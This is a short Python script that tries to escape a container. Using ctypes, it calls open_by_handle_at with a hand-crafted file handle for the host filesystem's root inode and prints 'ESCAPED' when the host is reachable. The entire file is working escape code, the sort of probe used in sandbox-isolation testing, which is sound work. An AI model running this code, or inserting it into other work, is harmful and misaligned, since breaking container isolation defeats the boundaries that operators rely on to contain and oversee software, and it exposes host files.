# Opens files of the host by the numbers of their inodes.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_ubyte * 16)(8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0)
opened = libc.open_by_handle_at(-100, ctypes.byref(handle), 0)
print("ESCAPED" if opened >= 0 else "refused", ctypes.get_errno())
